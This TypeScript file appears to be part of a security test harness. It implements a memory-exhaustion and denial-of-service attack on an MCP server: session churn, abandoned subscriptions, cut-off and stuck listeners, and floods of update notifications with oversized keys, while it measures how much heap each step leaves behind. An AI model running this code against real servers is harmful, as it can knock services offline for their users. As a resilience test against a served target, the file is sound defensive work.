/** H9: MCP sessions that come and go, and listeners that are told of changes and never read them. */
import { randomUUID } from 'node:crypto';
import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { Token } from '../arena/identities.js';
import { memoryOf, type Target } from '../arena/target.js';
import type { Attack } from '../attack.js';
import { keepUp, repeat } from '../pace.js';
import { ATTACKER_ADDRESS } from '../wire/http.js';
import { listenBody, newerHeaders, OlderSession, useTool } from '../wire/mcp.js';
import { endings, type StuckReader, stuckRequest } from '../wire/stuck.js';

const CYCLES = 400;
const NOTES = 300;
const STUCK = 32;
/** More than 10,000 in two minutes. */
const CYCLES_PER_SECOND = 90;
const AT_ONCE = 4;
/** Each of its characters takes nine in an address: a notice of a change has two kilobytes. */
const longKey = () => `${randomUUID()}${'長'.repeat(200)}`;
const urisOf = (key: string) =>
  ['context', 'summary'].map((path) => `handoff://${path}/${encodeURIComponent(key)}`);

type Cycle = (http: string, uri: string) => Promise<unknown>;

const whole: Cycle = async (http, uri) => {
  const session = await OlderSession.open(http, Token.attacker);
  await session.subscribe(uri);
  await session.unsubscribe(uri);
  return session.close();
};
const withoutUnsubscribing: Cycle = async (http, uri) => {
  const session = await OlderSession.open(http, Token.attacker);
  await session.subscribe(uri);
  return session.close();
};
const cutOffListen: Cycle = (http, uri) =>
  cutOff(http, listenBody([uri]), newerHeaders(Token.attacker, 'subscriptions/listen'));

export const mcpSessions: Attack = {
  row: 'H9',
  title: 'MCP sessions that come and go',

  async probe({ serve, say }) {
    const target = await serve();
    const [uri = ''] = urisOf(await registered(target.http));
    for (const [name, cycle] of [
      ['open, subscribe, unsubscribe, close', whole],
      ['open, subscribe, close', withoutUnsubscribing],
      ['listen, cut off', cutOffListen],
    ] as const)
      say(`${name}: ${await keptBy(target, () => cycle(target.http, uri))}`);
    const stuck = await serve();
    say(await pileUp(stuck));
  },

  async full({ target: { http }, over, got }) {
    const key = await registered(http);
    const uris = urisOf(key);
    const cycles = [whole, withoutUnsubscribing, cutOffListen, whole];
    const note = { sessionKey: key, contextType: 'message', content: 'x' };
    await Promise.all([
      ...Array.from({ length: AT_ONCE }, () =>
        repeat(over, CYCLES_PER_SECOND / AT_ONCE, async (turn) => {
          const cycle = cycles[turn % cycles.length] as Cycle;
          await cycle(http, uris[0] ?? '').then(
            () => got('cycle'),
            ({ code = 'refused' }: { code?: string }) => got(`cycle: ${code}`),
          );
        }),
      ),
      keepUp(
        over,
        { name: 'stuck listen', size: STUCK, perSecond: 8, open: () => stuckListen(http, uris) },
        got,
      ),
      repeat(over, 8, async () => {
        const told = useTool(http, Token.attacker, 'updateContext', note);
        got(
          `note: ${await told.then(
            () => 'OK',
            ({ code }: { code: string }) => code,
          )}`,
        );
      }),
    ]);
  },
};

async function registered(http: string): Promise<string> {
  const sessionKey = longKey();
  await useTool(http, Token.attacker, 'registerSession', { sessionKey, agentFrom: 'attacker' });
  return sessionKey;
}

/** What a hundred of these leave on the heap, after some to warm up. */
async function keptBy({ recording }: Target, cycle: () => Promise<unknown>): Promise<string> {
  for (let n = 0; n < CYCLES / 4; n++) await cycle();
  await sleep(500);
  const before = (await recording.mark()).heapUsed;
  for (let n = 0; n < CYCLES; n++) await cycle();
  await sleep(500);
  const kept = (await recording.mark()).heapUsed - before;
  return `${CYCLES} of them keep ${(kept / CYCLES).toFixed(0)} bytes each`;
}

async function pileUp({ http, pid }: Target): Promise<string> {
  const sessionKey = await registered(http);
  const uris = urisOf(sessionKey);
  const listeners: StuckReader[] = Array.from({ length: STUCK }, () => stuckListen(http, uris));
  const older = await stuckSessions(http, uris);
  await sleep(500);
  const before = memoryOf(pid)?.now ?? 0;
  for (let n = 0; n < NOTES; n++)
    await useTool(http, Token.attacker, 'updateContext', {
      sessionKey,
      contextType: 'message',
      content: 'x',
    });
  await sleep(1_000);
  const grown = (memoryOf(pid)?.now ?? 0) - before;
  const shown = Object.entries(endings([...listeners, ...older]))
    .map(([how, many]) => `${many} ${how}`)
    .join(', ');
  return `${STUCK} listeners and ${older.length} sessions that never read, ${NOTES} changes: ${shown}; memory grew by ${grown.toFixed(0)} MB`;
}

const stuckListen = (http: string, uris: readonly string[]): StuckReader =>
  stuckRequest(http, 'POST /mcp', newerHeaders(Token.attacker, 'subscriptions/listen'), listenBody(uris));

async function stuckSessions(http: string, uris: readonly string[]): Promise<readonly StuckReader[]> {
  const readers: StuckReader[] = [];
  for (let n = 0; n < STUCK; n++) {
    const session = await OlderSession.open(http, Token.attacker);
    for (const uri of uris) await session.subscribe(uri);
    readers.push(stuckRequest(http, 'GET /mcp', { ...session.headers, accept: 'text/event-stream' }));
  }
  return readers;
}

/** Waits for the first byte of the answer, then cuts the connection. */
function cutOff(http: string, body: string, headers: Record<string, string>): Promise<void> {
  return new Promise((resolve, reject) => {
    const json = { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)) };
    const options = {
      method: 'POST',
      headers: { ...headers, ...json },
      agent: false as const,
      localAddress: ATTACKER_ADDRESS,
    };
    const sent = request(`${http}/mcp`, options, (response) => {
      response.once('data', () => sent.destroy());
      response.once('close', () => resolve());
    });
    sent.on('error', reject);
    sent.end(body);
  });
}
